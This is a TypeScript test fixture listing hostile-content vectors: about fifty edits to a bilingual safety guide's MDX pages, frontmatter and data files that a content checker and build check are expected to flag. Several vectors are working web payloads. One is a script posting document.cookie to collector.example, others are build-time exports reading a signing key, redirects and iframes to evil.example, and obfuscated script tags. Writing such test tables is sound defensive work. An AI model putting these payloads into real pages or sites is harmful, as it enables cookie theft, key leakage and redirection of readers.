/**
 * Ways a hostile editor or translator could put active content into a guide: the table the
 * content check and the post-build check are tested against (tests/unit/hostile-content.test.ts,
 * tests/build/hostile-content.test.ts). Each vector changes one file of a copy of the small second
 * guide (tests/fixtures/newsroom/, English and Persian, its content in guide/) and says where the
 * problem must be reported: the file, and the line holding `at`.
 *
 * `working` marks the attacks that shipped and worked in a reader's browser or at build time
 * before pages became data: code run by the build, a script the policy let through, a redirect,
 * the quick exit hidden, a connection opened to another host.
 */

export interface Vector {
	/** A short name, used as the test's name. */
	name: string;
	/** The file changed, from the guide's project folder. */
	file: string;
	/** What is written into the file. */
	change: (text: string) => string;
	/** A piece of text on the line where the problem must be reported. */
	at: string;
	/** What the problem says, in part. */
	what: RegExp;
	/** It shipped and worked before: a test builds a copy with it. */
	working?: true;
}

const EN_PAGE = 'guide/docs/en/practices/two-factor.mdx';
const FR_PAGE = 'guide/docs/fa/tools/aegis.mdx';
const ES_PAGE = 'guide/docs/fa/practices/two-factor.mdx';
const AR_PAGE = 'guide/docs/fa/tools/mat2.mdx';

/** Adds a block of MDX after the first paragraph of a page's body. */
const body = (block: string) => (text: string) => {
	const end = text.indexOf('\n---\n', 4) + 5;
	const next = text.indexOf('\n\n', end + 1);
	return `${text.slice(0, next)}\n\n${block}\n${text.slice(next)}`;
};
/** Adds lines to a page's frontmatter, after its opening line. */
const frontmatter = (lines: string) => (text: string) => text.replace(/^---\n/, `---\n${lines}\n`);
/** Replaces a page's title line. */
const title = (value: string) => (text: string) => text.replace(/^title: .*$/m, `title: ${value}`);

const SCRIPT = /<script>|script/i;
const CODE = /import|export|expression|JavaScript|code/i;
const ELEMENT = (name: string) => new RegExp(`<${name}>|"${name}"|${name}`, 'i');

export const VECTORS: Vector[] = [
	// Code that runs at build time.
	{
		name: 'an export that reads the signing key, shown in a <pre>',
		file: FR_PAGE,
		change: body('export const k = (await import("node:fs")).readFileSync(process.env.PLAYBOOK_SIGNING_KEY_FILE, "utf8")\n\n<pre>{k}</pre>'),
		at: 'export const k',
		what: CODE,
		working: true,
	},
	{
		name: 'an export that writes a script into dist/',
		file: ES_PAGE,
		change: body('export const w = (await import("node:fs")).writeFileSync("dist/x.js", "document.title = 1")'),
		at: 'export const w',
		what: CODE,
		working: true,
	},
	{ name: 'an import of a Node module', file: EN_PAGE, change: body('import fs from "node:fs";'), at: 'import fs', what: CODE },
	{ name: 'an import from another site', file: EN_PAGE, change: body('import x from "https://evil.example/x.js";'), at: 'import x', what: CODE },
	{ name: 'a page that imports itself', file: AR_PAGE, change: body("import Self from './mat2.mdx';\n\n<Self />"), at: 'import Self', what: CODE },
	{ name: 'an expression in the text', file: EN_PAGE, change: body('Your home is {process.env.HOME}.'), at: 'Your home is', what: CODE },
	{ name: 'an expression block that runs a function', file: EN_PAGE, change: body('{(() => { globalThis.x = 1; return "x"; })()}'), at: '{(() =>', what: CODE },
	{
		name: 'a tag name built in JSX, loading a same-origin script',
		file: FR_PAGE,
		change: body('export const T = "scr" + "ipt"\n\n<T src="/x.js" />'),
		at: 'export const T',
		what: CODE,
		working: true,
	},
	{ name: 'an element named by a member expression', file: EN_PAGE, change: body('<x.y href="/" />'), at: '<x.y', what: /element|x\.y/i },
	{ name: 'spread attributes', file: EN_PAGE, change: body('<a {...{ href: "javascript:alert(1)" }}>home</a>'), at: '<a {...', what: /spread|attribute|javascript|expression/i },
	{ name: 'an address built by an expression', file: EN_PAGE, change: body('<a href={"java" + "script:alert(1)"}>home</a>'), at: '<a href={', what: /expression|literal|attribute|javascript/i },
	// Elements.
	{ name: 'a <script> element', file: EN_PAGE, change: body('<script>fetch("https://collector.example/?" + document.cookie)</script>'), at: '<script>fetch', what: SCRIPT },
	{ name: 'a <script src> element', file: EN_PAGE, change: body('<script src="/x.js"></script>'), at: '<script src', what: SCRIPT },
	{
		name: 'a <style> that hides the quick exit',
		file: AR_PAGE,
		change: body('<style>{"quick-exit{display:none!important}"}</style>'),
		at: '<style>',
		what: ELEMENT('style'),
		working: true,
	},
	{
		name: 'a meta refresh in the body',
		file: FR_PAGE,
		change: body('<meta http-equiv="refresh" content="0;url=https://evil.example/" />'),
		at: '<meta http-equiv',
		what: ELEMENT('meta'),
		working: true,
	},
	{ name: 'a <base> element', file: EN_PAGE, change: body('<base href="https://evil.example/" />'), at: '<base', what: ELEMENT('base') },
	{ name: 'a stylesheet from another site', file: EN_PAGE, change: body('<link rel="stylesheet" href="https://evil.example/x.css" />'), at: '<link', what: ELEMENT('link') },
	{
		name: 'an <iframe> built in JSX',
		file: ES_PAGE,
		change: body('<iframe src="https://evil.example/" width="1" height="1"></iframe>'),
		at: '<iframe',
		what: ELEMENT('iframe'),
		working: true,
	},
	{ name: 'an <object> element', file: EN_PAGE, change: body('<object data="https://evil.example/x.swf"></object>'), at: '<object', what: ELEMENT('object') },
	{ name: 'an <embed> element', file: EN_PAGE, change: body('<embed src="https://evil.example/x.swf" />'), at: '<embed', what: ELEMENT('embed') },
	{
		name: 'a <form> built in JSX',
		file: ES_PAGE,
		change: body('<form action="https://evil.example/collect" method="post"><input name="q" /></form>'),
		at: '<form',
		what: ELEMENT('form'),
		working: true,
	},
	{ name: 'a script inside an <svg>', file: EN_PAGE, change: body('<svg><script>alert(1)</script></svg>'), at: '<svg>', what: /svg|script/i },
	{ name: 'an onerror attribute', file: EN_PAGE, change: body('<img src="x.png" alt="" onerror="alert(1)" />'), at: 'onerror', what: /onerror|attribute/i },
	{ name: 'an onClick attribute with a function', file: EN_PAGE, change: body('<a href="/" onClick={() => alert(1)}>home</a>'), at: 'onClick', what: /onClick|attribute|expression/i },
	{ name: 'a style attribute', file: EN_PAGE, change: body('<div style="position:fixed;inset:0;background:white">Nothing here.</div>'), at: '<div style', what: /style/i },
	{ name: 'an image from another site, in HTML', file: EN_PAGE, change: body('<img src="https://tracker.example/pixel.gif" alt="" />'), at: '<img src="https', what: /another site|tracker\.example/i },
	{ name: 'an image from another site, in Markdown', file: EN_PAGE, change: body('![pixel](https://tracker.example/pixel.png)'), at: '![pixel]', what: /another site|tracker\.example/i },
	{ name: 'a javascript: link', file: EN_PAGE, change: body('[home](javascript:alert(1))'), at: '[home](javascript', what: /javascript/i },
	{ name: 'a javascript: link with a tab as a character reference', file: EN_PAGE, change: body('[home](java&#9;script:alert(1))'), at: '[home](java&#9;', what: /javascript/i },
	{ name: 'a data: link', file: EN_PAGE, change: body('[home](data:text/html;base64,PHNjcmlwdD4=)'), at: '[home](data:', what: /data:/i },
	{ name: 'a vbscript: link', file: EN_PAGE, change: body('<a href="VBScript:msgbox(1)">home</a>'), at: '<a href="VBScript', what: /vbscript/i },
	{ name: 'raw HTML through set:html', file: EN_PAGE, change: body('<Fragment set:html={"<script>alert(1)</script>"} />'), at: '<Fragment', what: /set:html|Fragment|script|expression/i },
	{ name: 'a meta refresh inside <noscript>', file: EN_PAGE, change: body('<noscript><meta http-equiv="refresh" content="0;url=https://evil.example/" /></noscript>'), at: '<noscript>', what: /noscript|meta/i },
	{ name: 'a video poster from another site', file: EN_PAGE, change: body('<video poster="https://tracker.example/p.jpg"></video>'), at: '<video', what: /video|another site/i },
	{ name: 'a sound from another site', file: EN_PAGE, change: body('<audio src="https://tracker.example/a.mp3"></audio>'), at: '<audio', what: /audio|another site/i },
	// Frontmatter.
	{
		name: 'a meta refresh in the frontmatter’s head',
		file: FR_PAGE,
		change: frontmatter('head:\n  - tag: meta\n    attrs:\n      http-equiv: refresh\n      content: 0;url=https://evil.example/'),
		at: 'head:',
		what: /head/i,
		working: true,
	},
	{ name: 'a script in the frontmatter’s head', file: EN_PAGE, change: frontmatter('head:\n  - tag: script\n    content: alert(1)'), at: 'head:', what: /head|script/i },
	{
		name: 'a meta refresh in a <noscript> of the frontmatter’s head',
		file: FR_PAGE,
		change: frontmatter('head:\n  - tag: noscript\n    content: <meta http-equiv="refresh" content="0;url=https://evil.example/">'),
		at: 'head:',
		what: /head|noscript|meta/i,
		working: true,
	},
	{ name: 'a script in a banner', file: EN_PAGE, change: frontmatter('banner:\n  content: <script>alert(1)</script>'), at: 'banner:', what: /banner|script/i },
	{
		name: 'a script tag split by a YAML line continuation in a banner',
		file: EN_PAGE,
		change: frontmatter('banner:\n  content: "<scr\\\n    ipt src=/x.js></script>"'),
		at: 'banner:',
		what: /banner|script/i,
		working: true,
	},
	{
		name: 'a meta refresh in a banner',
		file: AR_PAGE,
		change: frontmatter('banner:\n  content: <meta http-equiv="refresh" content="0;url=https://evil.example/">'),
		at: 'banner:',
		what: /banner|meta/i,
		working: true,
	},
	{
		name: 'a title that closes <title> and adds a meta refresh',
		file: FR_PAGE,
		change: title('"x</title><meta http-equiv=refresh content=0;url=https://evil.example/>"'),
		at: 'title:',
		what: /title|plain text|markup|meta/i,
		working: true,
	},
	{ name: 'an unknown frontmatter key', file: EN_PAGE, change: frontmatter('reviewd: 2026-11-01'), at: 'reviewd:', what: /reviewd/ },
	{ name: 'markup in a description', file: EN_PAGE, change: (t) => t.replace(/^description: .*$/m, 'description: "<img src=x onerror=alert(1)>"'), at: 'description:', what: /description|onerror|plain text|markup/i },
	// Interface strings and data.
	{ name: 'a script in an interface string', file: 'guide/i18n/fa.json', change: (t) => t.replace('"downloads.version": "', '"downloads.version": "<script>alert(1)</script>'), at: '"downloads.version"', what: SCRIPT },
	{ name: 'an escaped script in an interface string', file: 'guide/i18n/en.json', change: (t) => t.replace('"downloads.version": "', '"downloads.version": "\\u003cscript>alert(1)\\u003c/script>'), at: '"downloads.version"', what: SCRIPT },
	{ name: 'an image with onerror in a data text', file: 'guide/text/fa.yaml', change: (t) => t.replace(/^(category\.sources: )/m, '$1<img src=x onerror=alert(1)> '), at: 'category.sources:', what: /onerror|attribute/i },
	{ name: 'a script in a language label', file: 'guide/data/languages.yaml', change: (t) => t.replace('label: فارسی', 'label: فارسی<script>alert(1)</script>'), at: 'label: فارسی', what: SCRIPT },
	{ name: 'a javascript: address as a resource', file: 'guide/data/resources.yaml', change: (t) => t.replace('url: https://ssd.eff.org/\n', 'url: javascript:alert(1)\n'), at: 'url: javascript', what: /javascript/i },
];
